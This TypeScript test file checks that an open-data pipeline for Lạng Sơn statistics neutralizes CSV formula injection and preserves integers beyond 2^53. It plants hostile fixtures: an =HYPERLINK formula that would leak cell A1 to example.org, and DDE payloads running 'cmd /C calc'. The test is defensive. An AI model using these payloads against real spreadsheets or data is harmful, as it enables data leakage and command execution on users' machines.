import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { run } from "@langson-open-data/cli";
import { neutralizeFormula, renderCsv } from "@langson-open-data/publish";
import type { Observation } from "@langson-open-data/schemas";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { OBS, PIPELINE_JSON, type ProjectCopy, capture, copyProject } from "./_project.js";

// Safe output: what the pipeline publishes from hostile text. One run over a copy of the real
// pipeline with planted rows whose quotes would run in a spreadsheet, and a value beyond 2^53.

const PAYLOADS = {
  "=": `=HYPERLINK("http://example.org/?leak="&A1;"xuất khẩu địa phương 31 triệu USD")`,
  "+": `+cmd|' /C calc'!A0 xuất khẩu địa phương 32 triệu USD`,
  "-": `-2+3+cmd|' /C calc'!A0 xuất khẩu địa phương 33 triệu USD`,
  "@": `@SUM(1+1)*cmd|' /C calc'!A0 xuất khẩu địa phương 34 triệu USD`,
} as const;
const PERIODS = ["quý II", "quý III", "quý IV", "năm 2022"] as const;
const BIG = "9007199254740993"; // 2^53 + 1: the first integer a binary float cannot hold

let project: ProjectCopy;
let csv: Record<string, string>[];
let json: Record<string, unknown>[];

const csvCell = (v: string) => `"${v.replace(/"/g, '""')}"`;

beforeAll(async () => {
  project = await copyProject();
  const payloads = Object.values(PAYLOADS);
  await project.addSource("hostile", `${payloads.join("\n")}\nQuý II, vốn 9.007.199.254.740.993 đồng.\n`, { published: "2023-07", reference_period: "2023-S1" });
  const rows = payloads.map((quote, i) => {
    const value = quote.match(/ (\d+) triệu USD/)![1]!;
    return `TRADE_LOCAL_EXPORT,LEVEL,VN-09,${PERIODS[i]},${value},triệu USD,,hostile,${csvCell(quote)}`;
  });
  rows.push("INVESTMENT_NEW_PROJECTS_CAPITAL,LEVEL,VN-09,quý II,9.007.199.254.740.993,đồng,,hostile,vốn 9.007.199.254.740.993 đồng");
  await project.write(OBS, `${await project.read(OBS)}${rows.join("\n")}\n`);
  const c = capture();
  const code = await run(c.io(project.root));
  expect(code, c.text()).toBe(0);
  const read = (d: string, f: string) => readFile(join(project.root, "datasets", d, "1.0.0", f), "utf8");
  csv = [
    ...Papa.parse<Record<string, string>>(await read("lang-son-trade", "data.csv"), { header: true, skipEmptyLines: true }).data,
    ...Papa.parse<Record<string, string>>(await read("lang-son-investment", "data.csv"), { header: true, skipEmptyLines: true }).data,
    ...Papa.parse<Record<string, string>>(await read("lang-son-market-control", "data.csv"), { header: true, skipEmptyLines: true }).data,
  ];
  json = JSON.parse(await read("lang-son-investment", "data.json"));
}, 30_000);
afterAll(() => project?.dispose());

describe("CSV/formula injection in published data.csv", () => {
  it.each(Object.entries(PAYLOADS))("a quote beginning with %j is published with a leading apostrophe, as text", (_start, quote) => {
    const cells = csv.filter((r) => r.indicator === "TRADE_LOCAL_EXPORT" && r.source === "hostile").map((r) => r.quote);
    expect(cells).toContain(`'${quote}`);
  });

  it("no published text cell starts with a formula character", () => {
    for (const r of csv) for (const c of ["quote", "note"]) expect(r[c]).not.toMatch(/^\s*[=+\-@\t\r]/);
  });

  it("numbers stay numbers: a negative growth rate is published as -3.43, not '-3.43", () => {
    const growth = csv.find((r) => r.indicator === "MARKET_CONTROL_ADMIN_PENALTY_AMOUNT" && r.measure === "YOY_GROWTH");
    expect(growth?.value).toBe("-3.43");
  });

  it("tab and carriage return starts (which the reader's trimming keeps out of inputs) are neutralized too, and the cell is quoted", () => {
    const row = (quote: string): Observation =>
      ({ dataset: "d", indicator: "X", measure: "LEVEL", ref_area: "VN-09", time_period: "2023", value: "1", unit: "CASES", unit_mult: 0, decimals: 0, obs_status: "A", source: "s", origin: "stated", quote, note: "" }) as Observation;
    expect(neutralizeFormula("\t=1+1")).toBe("'\t=1+1");
    expect(neutralizeFormula("\r=1+1")).toBe("'\r=1+1");
    const parsed = Papa.parse<Record<string, string>>(Buffer.concat(renderCsv([row("\t=1+1"), row("\r=1+1")])).toString("utf8"), { header: true, skipEmptyLines: true }).data;
    expect(parsed.map((r) => r.quote)).toEqual(["'\t=1+1", "'\r=1+1"]);
  });
});

describe("CSV/formula injection in the catalogue", () => {
  // Not fixed here: catalogue.ts (another engineer's) writes catalogue.csv without neutralizeFormula.
  it("a dataset title beginning with = is published in catalogue.csv with a leading apostrophe", async () => {
    const p = await copyProject();
    try {
      const pipeline = JSON.parse(await p.read(PIPELINE_JSON));
      pipeline.datasets[0].title.vi = `=HYPERLINK("http://example.org/?leak="&A1;"Xuất nhập khẩu")`;
      await p.write(PIPELINE_JSON, JSON.stringify(pipeline, null, 2));
      const c = capture();
      expect(await run(c.io(p.root)), c.text()).toBe(0);
      const rows = Papa.parse<string[]>(await readFile(join(p.root, "datasets", "catalogue.csv"), "utf8"), { skipEmptyLines: true }).data;
      expect(rows.flat().filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
    } finally {
      await p.dispose();
    }
  });
});

describe("values beyond 2^53", () => {
  it("data.csv holds the exact digits", () => {
    const big = csv.find((r) => r.indicator === "INVESTMENT_NEW_PROJECTS_CAPITAL" && r.source === "hostile");
    expect(big).toMatchObject({ value: BIG, unit: "VND", unit_mult: "0", decimals: "0" });
  });

  it("data.json keeps precision by writing the value as a JSON string, which JSON.parse returns digit for digit", () => {
    const big = json.find((r) => r.indicator === "INVESTMENT_NEW_PROJECTS_CAPITAL" && r.source === "hostile");
    expect(big?.value).toBe(BIG);
    expect(typeof big?.value).toBe("string");
    // What a JSON number would have become: the nearest double, one less.
    expect(String(Number(BIG))).toBe("9007199254740992");
    expect(BigInt(big!.value as string)).toBe(2n ** 53n + 1n);
  });
});
